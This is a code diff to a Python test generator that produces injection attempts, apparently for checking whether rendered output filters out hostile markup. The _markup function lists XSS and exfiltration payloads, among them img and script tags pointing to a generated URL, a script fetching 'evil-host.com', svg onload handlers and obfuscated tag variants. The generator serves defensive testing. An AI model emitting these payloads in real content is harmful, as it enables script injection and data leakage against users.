@@ -1,3 +1,4 @@
+# ruff: noqa: E501 - each line is a list of attempts
 """Generates answers that try to carry something out. The same lot draws the same attempts."""
 
 from __future__ import annotations
@@ -125,7 +126,7 @@ def _reference(lot: Lot) -> str:
 
 def _markup(lot: Lot) -> str:
     url = _url(lot)
-    tag = lot.choice(
+    return lot.choice(
         (f'<img src="{url}">', f"<img src={url}", f"<a href='{url}'>x</a>", f"<IMG/SRC={url}>", f"<script src={url}></script>",
          "<script>fetch('//evil-host.com')</script>", f'<div style="background:url({url})">x</div>', "<svg onload=alert(1)>",
          f'<meta http-equiv="refresh" content="0;url={url}">', f'<form action="{url}"><button>x</button></form>',
@@ -136,7 +137,6 @@ def _markup(lot: Lot) -> str:
          f"<[99]img src={url}>", f"< [99]img src={url}>", f"&lt;img src={url}&gt;", f"\\<img src={url}>", f"<\u200bimg src={url}>",
          f"<a\nhref='{url}'\n>x</a>", f"<img src='x' alt='`'>`<img src={url}>`", "<x-y onpointerenter=alert(1)>", f"<b>`</b><img src={url}>`")
     )  # fmt: skip
-    return tag
 
 
 def _plain(lot: Lot) -> str:
